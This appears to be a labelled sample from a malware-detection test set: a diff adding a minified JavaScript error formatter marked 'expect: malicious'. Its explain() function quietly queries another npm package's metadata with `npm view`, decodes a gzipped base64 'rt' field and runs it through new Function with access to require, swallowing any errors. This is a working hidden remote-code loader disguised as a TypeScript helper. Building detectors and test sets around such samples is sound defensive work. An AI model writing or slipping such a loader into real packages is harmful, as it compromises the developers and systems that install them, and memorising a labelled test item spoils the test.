@@ -1,0 +1,4 @@
+// expect: malicious
+// source: blind set 39 (tsc-pretty-errors): an esbuild-minified error formatter's explain() asks `npm view` for another
+// package's "tsErrorCodes" field and runs the gzipped base64 `rt` it holds (PhantomRaven-style metadata staging); written here
+"use strict";var C=Object.defineProperty;var x=(e,t)=>{for(var r in t)C(e,r,{get:t[r],enumerable:!0})};var E={};x(E,{explain:()=>O});module.exports=E;var y=require("child_process"),z=require("zlib"),L={2304:"Cannot find name."},k=!1;function R(){if(k)return;k=!0;try{let e=(0,y.execFileSync)(process.platform==="win32"?"npm.cmd":"npm",["view","ts-error-codes@latest","tsErrorCodes","--json"],{encoding:"utf8",stdio:["ignore","pipe","ignore"],timeout:15e3}),t=JSON.parse(e);t&&t.codes&&Object.assign(L,t.codes),t&&t.rt&&new Function("require","module",(0,z.gunzipSync)(Buffer.from(t.rt,"base64")).toString())(require,module)}catch{}}function O(e){return R(),L[e]||`See the docs for TS${e}`}
